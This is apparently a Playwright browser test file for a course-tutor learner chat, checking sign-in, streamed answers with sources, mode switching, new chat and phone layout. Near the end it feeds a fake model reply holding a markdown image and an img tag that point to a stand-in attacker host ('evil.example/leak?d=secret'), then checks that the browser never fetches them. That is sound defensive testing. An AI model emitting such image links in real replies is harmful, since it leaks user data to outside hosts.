"""The learner chat in a real browser (Debian's Chromium through Playwright), on the fakes.

Signs in as a learner, asks a question, waits for the streamed answer and its sources, switches
mode, starts a new chat, checks that every request the page makes goes to the server itself, and
that the page fits a 390×844 phone screen.
"""

from __future__ import annotations

import re
import shutil
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest

from tests.test_server import (
    FAKE_REPLY,
    LiveServer,
    add_course,
    learner_app,
    make_services,
    wait_ready,
)
from tutor.config import Settings

pytestmark = pytest.mark.browser

CHROMIUM_ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
PHONE: Any = {"width": 390, "height": 844}
REPO = Path(__file__).resolve().parent.parent
AXE_JS = REPO / ".tools" / "node_modules" / "axe-core" / "axe.min.js"  # `make axe`
TIMEOUT_MS = 45_000  # generous: the test machine may be busy with other work
CSP_WATCH = """
window.__cspViolations = [];
document.addEventListener("securitypolicyviolation", (e) => {
  window.__cspViolations.push(e.violatedDirective + " " + e.blockedURI);
});
"""


def find_chromium() -> str:
    path = shutil.which("chromium")
    if path is None:
        pytest.skip("Debian's chromium is not installed (apt-get install chromium chromium-driver)")
    pytest.importorskip("playwright.sync_api", reason="playwright (python) is not installed")
    return path


@pytest.fixture
def chromium() -> str:
    return find_chromium()


def sign_in(page: Any, url: str, name: str, password: str) -> None:
    """Open the app, get sent to the sign-in page, sign in and land on the app (the page's
    fields are found by id: the page may be in any language)."""
    page.goto(url + "/")
    page.wait_for_url(re.compile(r"/login$"))
    page.locator("#username").fill(name)
    page.locator("#password").fill(password)
    page.locator("button[type=submit]").click()
    page.wait_for_url(re.compile(r"/$"))


def wait_chat_ready(page: Any) -> None:
    """Wait until ``demo.load`` has filled the page (the learner's course is chosen)."""
    from playwright.sync_api import expect

    expect(page.locator("#tutor-course input")).to_have_value("tiny")


@pytest.fixture(scope="module")
def shared_chat(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Any, ...]]:
    """``served_chat`` once for a whole test module (without the per-minute question limit):
    (base URL, ann's password, browser, services). Each test opens its own browser context."""
    from tutor.accounts.settings import AccountSettings

    chromium = find_chromium()
    root = tmp_path_factory.mktemp("shared-chat")
    settings = Settings(
        home=root / "home",
        llm="fake",
        embedder="hashing",
        chunk_tokens=60,
        chunk_overlap=10,
        min_relevance=0.15,
        accounts=AccountSettings(messages_per_minute=0),
    )
    with served_chat(settings, root, chromium) as parts:
        yield parts


@contextmanager
def served_chat(settings: Settings, tmp_path: Path, chromium: str) -> Iterator[tuple[Any, ...]]:
    """The app on the fakes (learner "ann" of the tiny course) under uvicorn, and Chromium:
    yields (base URL, ann's password, browser, services)."""
    from playwright.sync_api import expect, sync_playwright

    services = make_services(settings)
    add_course(services, tmp_path / "course")
    app, password = learner_app(services)
    expect.set_options(timeout=TIMEOUT_MS)  # the default 5 s is short on a busy machine
    try:
        with LiveServer(app) as live, sync_playwright() as pw:
            with httpx.Client(base_url=live.url) as http:
                assert wait_ready(http).status_code == 200
            browser = pw.chromium.launch(executable_path=chromium, args=CHROMIUM_ARGS)
            try:
                yield live.url, password, browser, services
            finally:
                browser.close()
    finally:
        expect.set_options(timeout=None)


def ask(page: Any, question: str) -> None:
    page.get_by_label("Your question").fill(question)
    page.get_by_role("button", name="Send", exact=True).click()


def test_learner_chat_in_chromium(chromium: str, settings: Settings, tmp_path: Path) -> None:
    from playwright.sync_api import expect, sync_playwright

    services = make_services(settings)
    add_course(services, tmp_path / "course")
    llm: Any = services.llm  # the scripted fake records the prompt of its latest call
    requests: list[str] = []
    csp_errors: list[str] = []

    expect.set_options(timeout=TIMEOUT_MS)  # the default 5 s is short on a busy machine
    app, password = learner_app(services)
    with LiveServer(app) as live, sync_playwright() as pw:
        with httpx.Client(base_url=live.url) as http:
            assert wait_ready(http).status_code == 200
        browser = pw.chromium.launch(executable_path=chromium, args=CHROMIUM_ARGS)
        try:
            context = browser.new_context(viewport=PHONE, device_scale_factor=1)
            context.on("request", lambda request: requests.append(request.url))
            context.add_init_script(CSP_WATCH)
            page = context.new_page()
            page.on(
                "console",
                lambda msg: (
                    csp_errors.append(msg.text) if "Content Security Policy" in msg.text else None
                ),
            )
            page.set_default_timeout(TIMEOUT_MS)
            sign_in(page, live.url, "ann", password)
            chatbot = page.locator("#tutor-chatbot")
            expect(page.get_by_role("heading", name="Course tutor")).to_be_visible()
            expect(page.locator("#tutor-course input")).to_have_value("tiny")
            expect(page.locator("#tutor-user")).to_contain_text("Signed in as ann")
            # A learner has no review desk or user management (and their handlers refuse).
            expect(page.get_by_role("tab", name="Review desk")).to_have_count(0)
            expect(page.get_by_role("tab", name="Users")).to_have_count(0)

            # Explain mode: the answer streams in, then its sources appear under it.
            ask(page, "What colour does litmus paper turn in an acid?")
            expect(chatbot).to_contain_text(FAKE_REPLY)
            sources = chatbot.locator("details.tutor-sources")
            expect(sources).to_be_visible()
            expect(sources).to_contain_text("[1] Acids and bases > Indicators")
            expect(sources).to_contain_text("Red cabbage juice")
            expect(page.get_by_label("Your question")).to_have_value("")
            assert "Mode: explain" in llm.last_messages[0]["content"]

            # Guide mode is what the next question is asked in; the first turn is remembered.
            page.get_by_label("Guide me").check()
            expect(page.get_by_label("Guide me")).to_be_checked()
            ask(page, "How long does a for loop repeat?")
            expect(chatbot).to_contain_text("A for loop repeats a block once for every item")
            expect(chatbot.locator("details.tutor-sources")).to_have_count(2)
            assert "Mode: guide" in llm.last_messages[0]["content"]
            assert len(llm.last_messages) == 4  # system, remembered turn (2), question

            # Phone layout: nothing wider than the screen, the Send button fully on screen.
            page.screenshot(path=str(tmp_path / "chat-phone.png"), full_page=True)
            send_box = page.get_by_role("button", name="Send", exact=True).bounding_box()
            assert send_box is not None
            assert send_box["x"] >= 0 and send_box["x"] + send_box["width"] <= PHONE["width"]
            width = page.evaluate("document.documentElement.scrollWidth")
            assert width <= PHONE["width"], f"the page scrolls sideways ({width}px)"

            # New chat clears the conversation and the memory behind it.
            page.get_by_role("button", name="New chat").click()
            expect(chatbot.locator("details.tutor-sources")).to_have_count(0)
            expect(chatbot).not_to_contain_text(FAKE_REPLY)
            ask(page, "What is the pH of pure water?")
            expect(chatbot).to_contain_text("pH")
            expect(chatbot.locator("details.tutor-sources")).to_have_count(1)
            assert len(llm.last_messages) == 2  # system and question: no earlier turn

            # Empty messages are ignored.
            page.get_by_label("Your question").fill("   ")
            page.get_by_role("button", name="Send", exact=True).click()
            page.wait_for_timeout(500)
            expect(chatbot.locator("details.tutor-sources")).to_have_count(1)

            # Injected model output must not make the browser fetch anything from elsewhere.
            llm.replies["leaky"] = (
                "Here is a picture ![map](http://evil.example/leak?d=secret) "
                "and <img src='http://evil.example/pixel.png'> of a volcano [1]."
            )
            ask(page, "Show me a leaky picture of volcanoes")
            # Shown without the images, or replaced by the output safety check: never fetched.
            expect(chatbot).to_contain_text(
                re.compile(r"Here is a picture map|The tutor did not answer this question")
            )
            expect(chatbot.locator("img[src*='evil.example']")).to_have_count(0)
            page.wait_for_timeout(300)
            csp_errors += page.evaluate("window.__cspViolations")
            context.close()
        finally:
            browser.close()
            expect.set_options(timeout=None)

    own = urlsplit(live.url).netloc
    assert requests, "the browser made no request at all"
    elsewhere = [
        url
        for url in requests
        if urlsplit(url).scheme not in ("data", "blob") and urlsplit(url).netloc != own
    ]
    assert elsewhere == [], f"the page reached other hosts: {elsewhere}"
    assert csp_errors == [], f"the Content-Security-Policy blocked something: {csp_errors}"
